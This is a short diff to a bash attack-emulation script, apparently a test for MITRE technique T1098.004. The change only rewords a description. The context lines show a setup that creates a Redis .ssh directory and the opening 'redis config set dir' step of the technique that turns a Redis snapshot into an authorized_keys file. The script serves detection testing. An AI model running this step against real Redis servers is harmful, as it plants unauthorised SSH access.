@@ -1,7 +1,7 @@
 # SPDX-License-Identifier: Apache-2.0 OR MIT
 # shellcheck shell=bash disable=SC2034,SC2154
 technique=T1098.004
-about="a snapshot becomes somebody's authorized_keys"
+about="a snapshot becomes a user's authorized_keys"
 before() { mkdir -p /srv/redis/.ssh && chown redis /srv/redis/.ssh; }
 attack() {
 	redis config set dir /srv/redis/.ssh
